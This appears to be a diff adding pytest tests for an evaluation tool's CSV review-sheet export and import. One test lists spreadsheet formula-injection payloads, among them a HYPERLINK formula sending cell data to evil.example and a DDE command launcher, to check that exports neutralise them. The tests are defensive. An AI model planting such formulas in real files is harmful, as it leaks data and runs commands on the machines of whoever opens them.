@@ -63,14 +63,14 @@ def one_line(result, code: int) -> str:
 
 def filled_sheet(run, path, score="4", annotator="ann-1"):
     assert invoke("eval", "review", "export", run, "-o", path).exit_code == 0
-    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
+    with open(path, newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
     for row in rows:
         row["human_score"], row["annotator"] = score, annotator
-    buf = io.StringIO()
-    writer = csv.DictWriter(buf, fieldnames=list(rows[0]), lineterminator="\n")
-    writer.writeheader()
-    writer.writerows(rows)
-    path.write_text(buf.getvalue(), encoding="utf-8")
+    with open(path, "w", newline="", encoding="utf-8") as fh:
+        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
     return path
 
 
@@ -106,3 +106,101 @@ def test_a_damaged_run_file_is_one_line_naming_it(finished_run, eval_release, se
         assert str(path) in line and "; " in line
     assert snapshot(run) == before  # nothing imported, nothing rewritten
     assert not (tmp_path / "new.csv").exists()
+
+
+# -- review sheets ------------------------------------------------------------------------------------
+def rewrite(sheet, header: list[str], rows: list[list[str]]):
+    buf = io.StringIO()
+    writer = csv.writer(buf, lineterminator="\r\n")
+    writer.writerow(header)
+    writer.writerows(rows)
+    sheet.write_bytes(b"\xef\xbb\xbf" + buf.getvalue().encode("utf-8"))  # as a spreadsheet saves it: BOM, CRLF
+    return sheet
+
+
+def test_a_sheet_that_repeats_a_column_is_refused(finished_run, tmp_path):
+    run = copy_run(finished_run, tmp_path)
+    sheet = filled_sheet(run, tmp_path / "sheet.csv")
+    rows = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8"))))
+    rewrite(sheet, rows[0] + ["human_score"], [row + [""] for row in rows[1:]])  # a second, empty human_score
+    before = snapshot(run)
+    line = one_line(invoke("eval", "review", "import", run, sheet), 3)
+    assert "sheet.csv repeats column(s) 'human_score'" in line and "name each column once" in line
+    assert snapshot(run) == before
+
+
+def test_an_annotator_name_with_control_characters_is_a_bad_row(finished_run, tmp_path):
+    run = copy_run(finished_run, tmp_path)
+    sheet = filled_sheet(run, tmp_path / "sheet.csv", annotator="ann\x1b[2J\rmallory")
+    result = invoke("eval", "review", "import", run, sheet)
+    assert result.exit_code == 6 and "\x1b" not in result.output and "\r" not in result.output
+    assert "sheet.csv row 2: annotator has control characters" in result.output
+    assert not (run / "human_review.jsonl").exists()
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("answer", FORMULAS)
+def test_review_export_neutralises_cells_a_spreadsheet_would_run(eval_release, tmp_path, answer):
+    out = tmp_path / "evals"
+    with ScriptedServer(lambda body: answer) as srv:
+        result = invoke("eval", "run", eval_release, "--revision", "v0.1.0", "--backend", "openai", "--base-url",
+                        srv.url, "--model", "m", "--name", "m", "--judge", "none", "--configs", "default", "--limit",
+                        "1", "-o", out, "--quiet")
+    assert result.exit_code == 0, result.output
+    run = out / "mmrc-v0.1.0" / "m"
+    sheet = tmp_path / "sheet.csv"
+    assert invoke("eval", "review", "export", run, "-o", sheet).exit_code == 0
+    with open(sheet, newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    assert rows and all(row["answer"] == "'" + answer.strip() or row["answer"] == "'" + answer for row in rows)
+    cells = [cell for row in rows for cell in row.values()]
+    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
+    filled = filled_sheet(run, tmp_path / "filled.csv")  # still imports: the answer is matched by its sha256
+    assert invoke("eval", "review", "import", run, filled).exit_code == 0
+
+
+@pytest.mark.parametrize("answer", ["Roses\rtulips", "Roses\u2028tulips", "Roses\x85tulips", "Roses\x1etulips",
+                                    "a \"quoted\", answer\non two lines"])
+def test_answers_with_line_breaks_of_any_kind_survive_the_sheet(eval_release, tmp_path, answer):
+    out = tmp_path / "evals"
+    with ScriptedServer(lambda body: answer) as srv:
+        result = invoke("eval", "run", eval_release, "--revision", "v0.1.0", "--backend", "openai", "--base-url",
+                        srv.url, "--model", "m", "--name", "m", "--judge", "none", "--configs", "default", "--limit",
+                        "1", "-o", out, "--quiet")
+    assert result.exit_code == 0, result.output
+    run = out / "mmrc-v0.1.0" / "m"
+    sheet = tmp_path / "sheet.csv"
+    assert invoke("eval", "review", "export", run, "-o", sheet).exit_code == 0
+    with open(sheet, newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    assert len(rows) == 3 and {row["answer"] for row in rows} == {answer}
+    for row in rows:
+        row["human_score"], row["annotator"] = "3", "ann-1"
+    with open(sheet, "w", newline="", encoding="utf-8") as fh:
+        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    imported = invoke("eval", "review", "import", run, sheet)
+    assert imported.exit_code == 0 and "imported 3 score(s)" in imported.output, imported.output
+
+
+def test_a_row_with_fewer_cells_than_the_header_says_so(finished_run, tmp_path):
+    run = copy_run(finished_run, tmp_path)
+    sheet = filled_sheet(run, tmp_path / "sheet.csv")
+    lines = sheet.read_text(encoding="utf-8").splitlines(keepends=True)
+    lines[1] = ",".join(lines[1].split(",")[:3]) + "\n"
+    sheet.write_text("".join(lines), encoding="utf-8")
+    result = invoke("eval", "review", "import", run, sheet)
+    assert result.exit_code == 6 and "sheet.csv row 2: the row has 3 cells but the header has 12" in result.output
+
+
+@pytest.mark.parametrize("name", ["results.json", "samples.jsonl", "manifest.json", "_SUCCESS"])
+def test_review_export_never_writes_over_a_file_of_the_run(finished_run, tmp_path, name):
+    run = copy_run(finished_run, tmp_path)
+    before = snapshot(run)
+    line = one_line(invoke("eval", "review", "export", run, "-o", run / name, "--force"), 2)
+    assert f"{run / name} is a file of the run" in line
+    assert snapshot(run) == before
